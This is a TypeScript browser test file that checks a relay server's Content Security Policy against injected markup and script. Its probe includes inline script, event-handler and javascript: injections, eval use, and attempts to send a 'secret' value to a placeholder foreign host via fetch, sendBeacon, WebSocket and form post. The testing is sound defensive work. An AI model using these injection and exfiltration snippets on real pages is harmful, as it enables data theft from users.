import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Relay, startRelay } from '../../server/index.ts';
import { launchChromium } from '../support/chromium.ts';
import { tinyFederation } from '../support/tiny-model.ts';

// A page that somebody got code or markup into, as through a federation's title: what it can do then, in a real browser.

const PAGE = `<!doctype html><meta charset="utf-8"><title>Probe</title>
<script>window.inline = 'ran'</script>
<style>body { --styled: yes }</style>
<img alt="" src="/nothing.png" onerror="window.handler = 'ran'">
<a id="link" href="javascript:void (window.address = 'ran')">link</a>
<form id="form" action="FOREIGN/form" method="post" target="sink"><input name="text" value="secret"></form>
<iframe name="sink"></iframe>
<script type="module" src="/probe.js"></script>`;

/** Each way out or in; what it says counts only where it did not fail. Runs in the page. */
const PROBE = `
const foreign = 'FOREIGN', done = {};
const blocked = [];
document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
const attempt = async (name, way) => {
  try { done[name] = await way(); } catch { done[name] = 'blocked'; }
};
const event = (target, good, bad) => new Promise((resolve) => {
  target.addEventListener(good, () => resolve('ran'));
  target.addEventListener(bad, () => resolve('blocked'));
});
const element = (name, fields) => {
  const made = Object.assign(document.createElement(name), fields);
  const outcome = event(made, 'load', 'error');
  document.body.append(made);
  return outcome;
};
await attempt('own', async () => (await fetch('/federations')).ok ? 'ran' : 'blocked');
await attempt('own socket', () => event(new WebSocket(location.origin.replace('http', 'ws') + '/relay', 'dandelion.2'), 'open', 'error'));
await attempt('eval', () => { (0, eval)('1'); return 'ran'; });
await attempt('function', () => { new Function('return 1')(); return 'ran'; });
await attempt('timer', () => new Promise((resolve) => { setTimeout('window.timer = 1'); setTimeout(() => resolve(window.timer ? 'ran' : 'blocked'), 50); }));
await attempt('fetch', async () => { await fetch(foreign + '/fetch', { mode: 'no-cors' }); return 'ran'; });
await attempt('socket', () => event(new WebSocket(foreign.replace('http', 'ws') + '/socket'), 'open', 'error'));
await attempt('beacon', () => { navigator.sendBeacon(foreign + '/beacon', 'secret'); return 'blocked'; });
await attempt('image', () => element('img', { src: foreign + '/image' }));
await attempt('script', () => element('script', { src: foreign + '/script' }));
await attempt('style sheet', () => element('link', { rel: 'stylesheet', href: foreign + '/style' }));
await attempt('media', () => { document.body.append(Object.assign(document.createElement('video'), { src: foreign + '/media' })); return 'blocked'; });
await attempt('frame', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: foreign + '/frame' })); return 'blocked'; });
await attempt('worker', () => new Promise((resolve, reject) => {
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
  worker.onmessage = () => resolve('ran');
  worker.onerror = () => resolve('blocked');
}));
document.getElementById('link').click();
document.getElementById('form').submit();
await new Promise((resolve) => setTimeout(resolve, 300));
done.inline = window.inline ?? 'blocked';
done.handler = window.handler ?? 'blocked';
done.address = window.address ?? 'blocked';
done.style = getComputedStyle(document.body).getPropertyValue('--styled') ? 'ran' : 'blocked';
window.result = { done, blocked: [...new Set(blocked)].sort() };
`;

let folder: string;
let browser: Browser;
let relay: Relay;
let elsewhere: Server;
const reached: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('cross-origin-resource-policy', 'cross-origin').end();
  });
  elsewhere.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const foreign = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  folder = await mkdtemp(path.join(tmpdir(), 'dandelion-policy-'));
  const manifest = await tinyFederation(folder);
  await writeFile(path.join(folder, 'index.html'), PAGE.replaceAll('FOREIGN', foreign));
  await writeFile(path.join(folder, 'probe.js'), PROBE.replaceAll('FOREIGN', foreign));
  relay = await startRelay({
    ...{ manifests: [manifest], data: path.join(folder, 'data'), port: 0, host: '127.0.0.1', logLevel: 'silent' },
    ...{ folders: [folder], reconstruct: false },
  });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await relay?.close();
  await new Promise((resolve) => elsewhere.close(resolve));
  await rm(folder, { recursive: true, force: true });
});

interface Result {
  readonly done: Record<string, string>;
  readonly blocked: readonly string[];
}

/** Asked again and again: waiting inside the page takes an eval, which the policy forbids. */
async function resultOf(page: Page): Promise<Result> {
  const ask = (): Promise<Result | undefined> => page.evaluate(() => Reflect.get(window, 'result'));
  await expect.poll(ask, { timeout: 60_000 }).toBeDefined();
  return (await ask())!;
}

test('[W1] markup and code that get into the page run nothing and reach nobody, and the page itself works', async () => {
  const page = await browser.newPage();
  await page.goto(relay.url);
  const { done, blocked } = await resultOf(page);
  const { own, 'own socket': ownSocket, ...others } = done;
  expect([own, ownSocket]).toEqual(['ran', 'ran']);
  expect(Object.entries(others).filter(([, outcome]) => outcome !== 'blocked')).toEqual([]);
  expect(Object.keys(others)).toHaveLength(16);
  expect(reached).toEqual([]);
  // Blocked by the policy, and not because there was nothing to reach.
  const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'script-src'];
  expect(blocked).toEqual(expect.arrayContaining([...directives, 'script-src-elem', 'worker-src']));
  await page.close();
});

test('[W1] without the policy all of it happens: the probe is one that finds it', async () => {
  const page = await browser.newPage({ bypassCSP: true });
  await page.goto(relay.url);
  const { done } = await resultOf(page);
  for (const way of ['inline', 'eval', 'handler', 'address', 'style', 'worker', 'fetch'])
    expect([way, done[way]]).toEqual([way, 'ran']);
  expect(reached).toEqual(
    expect.arrayContaining(['/fetch', '/socket', '/beacon', '/form', '/image', '/script', '/frame', '/media']),
  );
  await page.close();
});

test('[T2] a page of another host reaches the relay neither by its socket nor by what it serves', async () => {
  const page = await browser.newPage();
  const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
  await page.goto(other);
  const outcome = await page.evaluate(async (address) => {
    const socket = new WebSocket(`${address.replace('http', 'ws')}/relay`, 'dandelion.2');
    const opened = await new Promise((resolve) => {
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    });
    const read = await fetch(`${address}/federations`).then(
      () => true,
      () => false,
    );
    return { opened, read };
  }, relay.url);
  expect(outcome).toEqual({ opened: false, read: false });
  await page.close();
});
